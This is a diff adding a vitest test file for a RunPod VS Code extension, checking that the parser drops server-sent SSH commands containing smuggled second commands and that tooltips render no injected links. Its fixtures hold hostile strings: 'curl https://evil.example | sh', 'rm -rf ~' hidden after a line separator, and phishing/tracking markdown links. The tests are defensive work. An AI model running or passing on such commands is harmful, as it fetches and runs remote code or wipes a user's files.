@@ -1,0 +1,49 @@
+/**
+ * Answers of valid JSON in the wrong shape from a broken or hostile API server, through the parse
+ * boundary (runpod/parse.ts, parseServerless.ts) to what the editor shows or copies: a field the
+ * views trust to be a number or a one-line command must be one, or be dropped there.
+ */
+import { createRequire } from 'node:module';
+import { describe, expect, it } from 'vitest';
+import { parsePod } from '../../client/src/runpod/parse';
+import { parseEndpoint } from '../../client/src/runpod/parseServerless';
+import { describePod } from '../../client/src/views/pods/podNodes';
+import { describeEndpoint } from '../../client/src/views/endpoints/endpointNodes';
+
+// VS Code renders tooltips as Markdown (untrusted: no command links, but https links and images).
+const MarkdownIt = createRequire(__filename)('markdown-it') as new (options?: object) => { render(text: string): string };
+const markdown = new MarkdownIt();
+
+const POD = { id: 'p1', name: 'train', status: 'RUNNING', actions: ['stop'] };
+const LINKS = '![t](https://evil.example/track.png) [Open the console](https://evil.example/login)';
+
+describe("a Pod's SSH command from the server", () => {
+  it('is offered to copy only when it is one line without control characters: a pasted line break runs a second command', () => {
+    for (const command of ['ssh root@203.0.113.5 -p 22\ncurl https://evil.example | sh', 'ssh x\r\ncurl evil', 'ssh x\u001b[2K', 'ssh x\u2028rm -rf ~']) {
+      const pod = parsePod({ ...POD, ssh: { command } });
+      expect(pod.ssh?.command, JSON.stringify(command)).toBeUndefined();
+      expect(describePod(pod).contextValue).not.toMatch(/;ssh$/);
+    }
+    const plain = parsePod({ ...POD, ssh: { command: 'ssh root@203.0.113.5 -p 22022 -i ~/.ssh/id_ed25519', port: 22022 } });
+    expect(plain.ssh).toEqual({ command: 'ssh root@203.0.113.5 -p 22022 -i ~/.ssh/id_ed25519', port: 22022 });
+    expect(describePod(plain).contextValue).toMatch(/;ssh$/);
+  });
+
+  it('of another type than text leaves the Pod listed without one, instead of breaking the Pods view', () => {
+    for (const ssh of [{ command: 5 }, { command: ['ssh', 'x'] }, { command: { toString: 'x' } }, 'ssh x', 7]) {
+      const pod = parsePod({ ...POD, ssh });
+      expect(() => describePod(pod), JSON.stringify(ssh)).not.toThrow();
+      expect(pod.ssh?.command).toBeUndefined();
+    }
+  });
+});
+
+describe("an endpoint's worker settings from the server", () => {
+  it('an idle timeout that is no number forms no link or image in the tooltip; a number is shown', () => {
+    const endpoint = parseEndpoint({ id: 'e1', name: 'api', workers: { min: 0, max: 2, idleTimeout: LINKS } });
+    const html = markdown.render(describeEndpoint(endpoint).tooltip);
+    expect(html).not.toMatch(/<a |<img /);
+    expect(html).not.toContain('evil.example');
+    expect(describeEndpoint(parseEndpoint({ id: 'e1', workers: { min: 0, max: 2, idleTimeout: 5 } })).tooltip).toContain('idle timeout 5 s');
+  });
+});
